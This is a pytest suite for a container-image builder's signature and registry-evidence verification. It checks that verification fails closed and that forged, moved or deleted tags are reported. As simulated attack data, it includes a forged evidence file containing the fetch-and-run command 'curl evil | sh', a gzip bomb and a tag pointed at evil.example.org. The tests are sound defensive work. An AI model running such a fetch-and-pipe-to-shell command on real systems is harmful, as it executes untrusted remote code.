"""Verification that never fails open (issue 37, items 1 and 2), offline: the allowed signers named
by --allowed-signers, $BUILDER_ALLOWED_SIGNERS or catalog/allowed_signers are a readable regular
file or exit 2 in one line; a signed catalog without them is refused; "verified" is said only when
signatures were checked; the local evidence is checked without an engine; and the registry's side
(immutable and floating tags, the .sbom and .att evidence tags) is compared with the record and its
signed evidence, one line per tag that disagrees. The engine and registry are tests/fake_engine.py
and tests/fake_registry.py; the same against the real registry is
tests/integration/test_registry_evidence.py."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result

from builder.catalog.indexes import DOCKER_LIST, IndexRecord
from builder.catalog.store import Catalog
from builder.engine.port import EngineFault
from builder.engine.registry import Manifest, digest_of
from builder.publish import evidence, signing
from builder.publish import verify as verification
from builder.publish.signing import Unverified
from builder.publish.verify import signers
from builder.usecases import catalog as catalogs
from builder.usecases import pull as pulling
from builder.util.errors import UserError
from tests.fake_engine import FakeEngine, connect_to
from tests.fake_registry import FakeRegistry, published
from tests.test_evidence import REPO, TORCH_CPU, fake, make_key, needs_ssh_keygen, publish, spec

OTHER = "sha256:" + "f" * 64


__all__ = ["fake", "spec"]  # tests/test_evidence.py's fixtures: the torch CPU image, published through the in-memory engine


@pytest.fixture
def signed(tmp_path: Path, spec: Any, fake: FakeEngine, monkeypatch: pytest.MonkeyPatch) -> tuple[Catalog, Path]:
    """A catalog of one record published with a key; its allowed_signers beside it."""
    monkeypatch.delenv(signing.ALLOWED_SIGNERS_ENV, raising=False)
    key, line = make_key(tmp_path, "ci@example.org")
    outcome, catalog = publish(tmp_path, spec, fake, key)
    assert outcome.status == "published", outcome.reason
    allowed = catalog.root / signing.ALLOWED_SIGNERS
    allowed.write_text(line)
    return catalog, allowed


def unsigned_catalog(tmp_path: Path, spec: Any, fake: FakeEngine) -> Catalog:
    outcome, catalog = publish(tmp_path, spec, fake, None)
    assert outcome.status == "published", outcome.reason
    return catalog


# -- item 1: the allowed signers, failing closed --------------------------------------------------------


def not_a_signers_file(kind: str, path: Path) -> str:
    """Put `kind` at `path`; the words the refusal must say."""
    if kind == "folder":
        path.mkdir()
        return "is a folder"
    if kind == "fifo":
        os.mkfifo(path)
        return "not a regular file (a device, FIFO or socket)"
    if kind == "dangling link":
        path.symlink_to(path.parent / "gone")
        return f"a link to nothing ({path.parent / 'gone'})"
    if kind == "huge":
        with open(path, "wb") as handle:
            handle.truncate(signing.MAX_SIGNERS + 1)  # sparse: nothing written
        return "larger than 1 MiB"
    assert kind == "missing"
    return "no such allowed signers file"


KINDS = ("missing", "folder", "fifo", "dangling link", "huge")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("how", ["option", "environment"])
def test_a_named_signers_file_that_is_not_a_readable_file_is_exit_2_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, how: str
) -> None:
    path = tmp_path / "allowed_signers"
    words = not_a_signers_file(kind, path)
    catalog = Catalog(tmp_path / "catalog")
    if how == "option":
        named, given = f"--allowed-signers {path}", path
    else:
        monkeypatch.setenv(signing.ALLOWED_SIGNERS_ENV, str(path))
        named, given = f"${signing.ALLOWED_SIGNERS_ENV}={path}", None
    with pytest.raises(UserError) as caught:
        signers(catalog, given, True)
    message = str(caught.value)
    assert message.startswith(f"{named}: ") and words in message and "--no-verify" in message and "\n" not in message


@pytest.mark.parametrize("kind", [k for k in KINDS if k != "missing"])
def test_the_catalogs_own_signers_file_that_is_not_a_readable_file_is_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    monkeypatch.delenv(signing.ALLOWED_SIGNERS_ENV, raising=False)
    catalog = Catalog(tmp_path / "catalog")
    catalog.root.mkdir()
    words = not_a_signers_file(kind, catalog.root / signing.ALLOWED_SIGNERS)
    with pytest.raises(UserError) as caught:
        signers(catalog, None, True)
    assert str(caught.value).startswith(f"{catalog.root / signing.ALLOWED_SIGNERS}: ") and words in str(caught.value)


def test_an_empty_signers_variable_is_an_unmounted_secret_not_no_verification(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(signing.ALLOWED_SIGNERS_ENV, "")
    with pytest.raises(UserError, match=r"^\$BUILDER_ALLOWED_SIGNERS is set but empty"):
        signers(Catalog(tmp_path / "catalog"), None, True)


@needs_ssh_keygen
def test_a_signed_catalog_without_allowed_signers_is_refused(signed: tuple[Catalog, Path], fake: FakeEngine) -> None:
    catalog, allowed = signed
    allowed.unlink()  # deleted, or never checked out: verification must not silently stop
    with pytest.raises(UserError) as caught:
        signers(catalog, None, True)
    assert (
        str(caught.value)
        == f"{allowed}: records are signed; give --allowed-signers or --no-verify (or restore allowed_signers from git; $BUILDER_ALLOWED_SIGNERS names one too)"
    )
    with pytest.raises(UserError, match="records are signed; give --allowed-signers or --no-verify"):
        pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=pulling.FitCheck(skip=True))
    assert fake.pulls == [], "refused before anything is pulled"


@needs_ssh_keygen
def test_verified_is_said_only_when_signatures_were_checked(
    tmp_path: Path, signed: tuple[Catalog, Path], fake: FakeEngine, spec: Any
) -> None:
    catalog, allowed = signed
    (record,) = catalog.load()
    fake.registry[record.tag] = record.digest.partition("@")[2]
    skip = pulling.FitCheck(skip=True)
    pulled = pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    assert pulled.trust == "signatures verified (signed by ci@example.org)"
    allowed.write_text("")  # present, but naming nobody: nothing verifies (never "nothing to verify")
    with pytest.raises(Unverified, match="is not by a key in"):
        pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    pulled = pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip, verify_signatures=False)
    assert pulled.trust == "not verified (--no-verify)"
    other = unsigned_catalog(tmp_path / "other", spec, fake)
    pulled = pulling.pull(other, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    assert pulled.trust == "not verified: the catalog has no signatures and no allowed_signers"


def test_no_verify_and_allowed_signers_together_are_refused(cli: Any, tmp_path: Path) -> None:
    (tmp_path / "catalog").mkdir()
    for args in (("pull", "torch=2.13"), ("catalog", "--verify")):
        result = cli(*args, "--catalog", str(tmp_path / "catalog"), "--no-verify", "--allowed-signers", str(tmp_path / "x"))
        assert result.exit_code == 2 and "--no-verify checks no signatures" in result.output, result.output


def one_line_exit_2(result: Result, *words: str) -> None:
    lines = result.output.strip().splitlines()
    assert result.exit_code == 2 and len(lines) == 1 and lines[0].startswith("error: "), result.output
    for word in words:
        assert word in lines[0], lines[0]


@needs_ssh_keygen
def test_the_commands_refuse_a_signed_catalog_without_signers_before_any_engine(
    cli: Any, signed: tuple[Catalog, Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    catalog, allowed = signed
    allowed.unlink()
    env = {"DOCKER_HOST": f"unix://{tmp_path}/no-engine.sock"}
    one_line_exit_2(cli("catalog", "--verify", "--catalog", str(catalog.root), env=env), "records are signed")
    one_line_exit_2(cli("pull", f"id={TORCH_CPU}", "--catalog", str(catalog.root), env=env), "records are signed")
    monkeypatch.setenv(signing.ALLOWED_SIGNERS_ENV, str(tmp_path / "typo"))
    one_line_exit_2(cli("pull", f"id={TORCH_CPU}", "--catalog", str(catalog.root), env=env), "$BUILDER_ALLOWED_SIGNERS=", "no such")


@needs_ssh_keygen
def test_catalog_verify_checks_local_evidence_without_an_engine(
    cli: Any, signed: tuple[Catalog, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Today's code opened the engine first: no engine, no verification at all."""
    from builder.engine import client

    catalog, _ = signed

    def no_engine(*args: object, **kwargs: object) -> None:
        raise AssertionError("catalog --verify opened the engine")

    monkeypatch.setattr(client, "open_engine", no_engine)
    registry = published(catalog)
    monkeypatch.setattr(catalogs, "HttpRegistry", lambda **kwargs: registry)
    result = cli("catalog", "--verify", "--format", "json", "--catalog", str(catalog.root))
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["verify"][TORCH_CPU]["detail"].startswith("signatures verified (signed by ci@example.org)")
    registry.fault = EngineFault("127.0.0.1:5000: the registry cannot be reached: [Errno 111] Connection refused")
    statement = catalog.evidence / evidence.statement_name(TORCH_CPU)
    statement.write_bytes(statement.read_bytes().replace(b'"passed"', b'"passeD"', 1))
    result = cli("catalog", "--verify", "--catalog", str(catalog.root))
    assert result.exit_code == 1
    assert "does not match" in result.output and "the registry cannot be read" in result.output, (
        "the local check ran, the registry's failed"
    )


# -- item 2: the registry's side ------------------------------------------------------------------------


def findings(catalog: Catalog, registry: FakeRegistry) -> tuple[str, ...]:
    (checked,) = catalogs.verify(catalog, catalog.load(), signers(catalog, None, True), registry)
    assert checked.ok == (not checked.findings)
    return checked.findings


def tar_gz(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue())


@needs_ssh_keygen
def test_every_tag_the_registry_moved_or_forged_is_one_line_naming_it(tmp_path: Path, signed: tuple[Catalog, Path]) -> None:
    catalog, _ = signed
    (record,) = catalog.load()
    digest = record.digest.partition("@")[2]
    assert len(record.floating) == 2, record.floating
    sbom_tag, att_tag = (evidence.evidence_tag(digest, kind) for kind in ("sbom", "att"))
    assert findings(catalog, published(catalog)) == (), "as publish left it: everything matches"

    registry = published(catalog)
    registry.tag(REPO, TORCH_CPU, OTHER)  # the immutable tag moved to another image
    registry.tag(REPO, record.floating[1].rpartition(":")[2], OTHER)  # and a floating one
    registry.evidence_image(REPO, sbom_tag, {evidence.SBOM_FILE: b'{"forged": true}\n'})
    statement = (catalog.evidence / evidence.statement_name(TORCH_CPU)).read_bytes()
    signature = (catalog.evidence / f"{evidence.statement_name(TORCH_CPU)}.sig").read_bytes()
    forged = statement.replace(b'"passed"', b'"failed"', 1)
    registry.evidence_image(REPO, att_tag, {evidence.STATEMENT_FILE: forged, evidence.STATEMENT_FILE + evidence.SIG: signature})
    moved = f"points at {OTHER}, not the record's {digest}: the tag was moved to another image"
    assert findings(catalog, registry) == (
        f"{REPO}:{TORCH_CPU}: {moved}",
        f"{record.floating[1]}: {moved}",
        f"{REPO}:{sbom_tag}: its sbom.cdx.json is not the SBOM the signed attestation names (sha256 differs): forged or replaced",
        f"{REPO}:{att_tag}: its attestation.intoto.json differs from catalog/evidence/'s: forged or replaced",
    )


@needs_ssh_keygen
@pytest.mark.parametrize(
    ("attack", "words"),
    [
        ("att deleted", "{att}: not in the registry (deleted?)"),
        ("sbom deleted", "{sbom}: not in the registry (deleted?)"),
        ("att signed by a stranger", "{att}: its attestation.intoto.json.sig differs"),
        ("att unsigned", "{att}: holds attestation.intoto.json, not attestation.intoto.json, attestation.intoto.json.sig"),
        ("sbom with a second file", "{sbom}: holds run.sh, sbom.cdx.json, not just sbom.cdx.json"),
        ("att replaced by an image", "{att}: is not an evidence image (3 layers"),
        ("sbom layer a gzip bomb", "{sbom}: its layer is not a tar of files (larger than 1 MiB unpacked)"),
        ("sbom layer not a tar", "{sbom}: its layer is not a tar of files"),
        ("sbom layer gone", "{sbom}: its layer is not in the registry"),
    ],
)
def test_forged_and_deleted_evidence_tags(
    tmp_path: Path, signed: tuple[Catalog, Path], attack: str, words: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    catalog, _ = signed
    monkeypatch.setattr(verification, "MAX_LAYER", 2**20)  # the cap, made small: a bomb of 2 MiB is past it
    (record,) = catalog.load()
    digest = record.digest.partition("@")[2]
    tags = {kind: evidence.evidence_tag(digest, kind) for kind in ("sbom", "att")}
    registry = published(catalog)
    statement = (catalog.evidence / evidence.statement_name(TORCH_CPU)).read_bytes()
    sbom = (catalog.evidence / evidence.sbom_name(TORCH_CPU)).read_bytes()
    if attack.endswith("deleted"):
        del registry.manifests[REPO, tags[attack.split()[0]]]
    elif attack == "att signed by a stranger":
        stranger, _ = make_key(tmp_path, "stranger@example.org")
        sig = signing.sign(statement, stranger, signing.ATTESTATION_NAMESPACE)
        registry.evidence_image(
            REPO, tags["att"], {evidence.STATEMENT_FILE: statement, evidence.STATEMENT_FILE + evidence.SIG: sig.encode()}
        )
    elif attack == "att unsigned":
        registry.evidence_image(REPO, tags["att"], {evidence.STATEMENT_FILE: statement})
    elif attack == "sbom with a second file":
        registry.evidence_image(REPO, tags["sbom"], {evidence.SBOM_FILE: sbom, "run.sh": b"curl evil | sh\n"})
    elif attack == "att replaced by an image":
        body = json.dumps({"schemaVersion": 2, "layers": [{"digest": OTHER}] * 3}).encode()
        registry.manifests[REPO, tags["att"]] = Manifest("application/vnd.docker.distribution.manifest.v2+json", digest_of(body), body)
    else:
        layer = {
            "sbom layer a gzip bomb": gzip.compress(bytes(2 * 2**20)),
            "sbom layer not a tar": gzip.compress(b"not a tar at all" * 100),
            "sbom layer gone": b"",
        }[attack]
        body = json.dumps({"schemaVersion": 2, "layers": [{"digest": digest_of(layer)}]}).encode()
        registry.manifests[REPO, tags["sbom"]] = Manifest("application/vnd.docker.distribution.manifest.v2+json", digest_of(body), body)
        if layer:
            registry.blobs[REPO, digest_of(layer)] = layer
    (line,) = findings(catalog, registry)
    assert line.startswith(words.format(sbom=f"{REPO}:{tags['sbom']}", att=f"{REPO}:{tags['att']}")), line
    assert "\n" not in line


@needs_ssh_keygen
def test_a_multi_platform_index_at_the_immutable_tag_counts_when_it_lists_the_digest_for_its_platform(
    signed: tuple[Catalog, Path],
) -> None:
    """publish puts an amd64+arm64 name's index at repository:<name>, the amd64 record's own tag."""
    catalog, _ = signed
    (record,) = catalog.load()
    digest = record.digest.partition("@")[2]

    def index(platform: str, listed: str) -> None:
        arch = platform.partition("/")[2]
        body = json.dumps({"manifests": [{"digest": listed, "platform": {"os": "linux", "architecture": arch}}]}).encode()
        registry.tag(REPO, TORCH_CPU, digest_of(body), DOCKER_LIST, body)

    registry = published(catalog)
    index("linux/amd64", digest)
    assert findings(catalog, registry) == ()
    index("linux/arm64", digest)  # listed, but for another platform than the record's
    (line,) = findings(catalog, registry)
    assert line.startswith(f"{REPO}:{TORCH_CPU}: points at sha256:") and "the tag was moved" in line


@needs_ssh_keygen
def test_a_floating_tag_outside_the_records_repository_is_named_and_never_asked(signed: tuple[Catalog, Path]) -> None:
    catalog, _ = signed
    (record,) = catalog.load()
    text = catalog.file.read_text().replace(f'"{record.floating[0]}"', '"evil.example.org/x:latest"')
    catalog.file.write_text(text)  # floating tags are not signed (they move): the registry check must still not follow them
    registry = published(catalog)
    (line,) = findings(catalog, registry)
    assert line == f"evil.example.org/x:latest: not a tag of {REPO} (the record's repository); restore the catalog from git"
    assert all(repository == REPO for repository, _ in registry.asked)


@needs_ssh_keygen
def test_catalog_verify_prints_each_finding_and_exits_1(cli: Any, signed: tuple[Catalog, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    catalog, _ = signed
    (record,) = catalog.load()
    registry = published(catalog)
    registry.tag(REPO, TORCH_CPU, OTHER)
    del registry.manifests[REPO, evidence.evidence_tag(record.digest.partition("@")[2], "att")]
    monkeypatch.setattr(catalogs, "HttpRegistry", lambda **kwargs: registry)
    result = cli("catalog", "--verify", "--format", "json", "--catalog", str(catalog.root))
    assert result.exit_code == 1
    data = json.loads(result.stdout)
    found = data["verify"][TORCH_CPU]
    assert found["ok"] is False and len(found["findings"]) == 2
    lines = result.stderr.strip().splitlines()
    assert lines == [f"{TORCH_CPU}: {finding}" for finding in found["findings"]]
    assert f"{REPO}:{TORCH_CPU}: points at {OTHER}" in lines[0] and ".att: not in the registry" in lines[1]


# -- pull: by digest, and what it says of moved tags ------------------------------------------------------


@needs_ssh_keygen
def test_pull_says_which_readable_tags_the_registry_moved(
    signed: tuple[Catalog, Path], fake: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    catalog, _ = signed
    (record,) = catalog.load()
    digest = record.digest.partition("@")[2]
    skip = pulling.FitCheck(skip=True)
    pulled = pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    assert "note:" not in pulled.note, "as publish left the registry: nothing to say"
    fake.registry[record.tag] = OTHER
    fake.registry[record.floating[0]] = OTHER
    del fake.registry[record.floating[1]]
    pulled = pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    assert fake.pulls[-1] == record.digest, "still pulled by digest"
    notes = [line for line in pulled.note.splitlines() if line.startswith("note:")]
    assert notes == [
        f"note: {record.tag} in the registry now points at {OTHER}, not this digest: whoever pulls that tag gets another image",
        f"note: {record.floating[0]} in the registry now points at {OTHER}, not this digest: whoever pulls that tag gets another image",
        f"note: {record.floating[1]} is no longer in the registry (this digest still is)",
    ]
    index = "sha256:" + "e" * 64  # the name's multi-platform index, as catalog/indexes.json records it
    fake.registry[record.tag] = index
    catalog.add_index(IndexRecord(TORCH_CPU, record.tag, f"{REPO}@{index}", {"linux/amd64": record.digest}, "2026-12-01T10:05:00Z"))
    pulled = pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    assert record.tag not in pulled.note and digest not in pulled.note
    catalog.file.write_text(catalog.file.read_text().replace(f'"{record.floating[0]}"', '"evil.example.org/x:latest"'))
    asked = fake.registry_digest
    monkeypatch.setattr(
        fake, "registry_digest", lambda reference: asked(reference) if reference.startswith(REPO) else pytest.fail(reference)
    )
    pulled = pulling.pull(catalog, f"id={TORCH_CPU}", log=lambda line: None, connect=connect_to(fake), check=skip)
    assert f"note: evil.example.org/x:latest is not a tag of {REPO}; not asked" in pulled.note


@needs_ssh_keygen
def test_pull_on_the_command_line_says_verified_only_when_it_verified(
    cli: Any, signed: tuple[Catalog, Path], fake: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    catalog, _ = signed
    (record,) = catalog.load()
    real = pulling.pull
    monkeypatch.setattr(pulling, "pull", lambda *a, **k: real(*a, **{**k, "connect": connect_to(fake)}))
    result = cli("pull", f"id={TORCH_CPU}", "--no-fit-check", "--catalog", str(catalog.root))
    assert result.exit_code == 0, result.output
    assert f"pulled {record.digest} ({TORCH_CPU}): digest checked; signatures verified (signed by ci@example.org)" in result.stderr
    result = cli("pull", f"id={TORCH_CPU}", "--no-fit-check", "--no-verify", "--catalog", str(catalog.root))
    assert result.exit_code == 0, result.output
    assert f"pulled {record.digest} ({TORCH_CPU}): digest checked; not verified (--no-verify)" in result.stderr
    assert "signatures verified" not in result.stderr
